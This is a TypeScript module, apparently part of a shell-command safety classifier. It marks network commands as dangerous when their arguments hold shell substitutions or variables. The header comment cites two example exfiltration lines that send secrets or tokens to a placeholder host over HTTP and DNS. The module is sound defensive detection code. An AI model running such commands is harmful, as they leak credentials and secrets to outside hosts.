/**
 * Values the shell computes (`$(…)`, backticks, `$VAR`, `${…}`) inside a network command: the classifier
 * cannot know what they hold, and `curl http://x/$(cat secrets)` or `dig $TOKEN.x.example` sends it out.
 */
import { SUBSTITUTION } from "./scan";
import { type Classification, dangerous, shown } from "./types";

/** A word holding a substitution or a variable (the scanner left `$NAME` and a placeholder for `$(…)`). */
export function isComputed(word: string): boolean {
  return word.includes(SUBSTITUTION) || word.includes("$");
}

/** Dangerous when any argument of the network command `name` is computed; null otherwise. */
export function computedNetworkArgument(name: string, args: readonly string[]): Classification | null {
  for (const arg of args) {
    if (isComputed(arg)) {
      const shownArg = shown(arg.replaceAll(SUBSTITUTION, "$(…)"));
      return dangerous("network-substitution", `network command with a computed value: ${name} ${shownArg}`);
    }
  }
  return null;
}
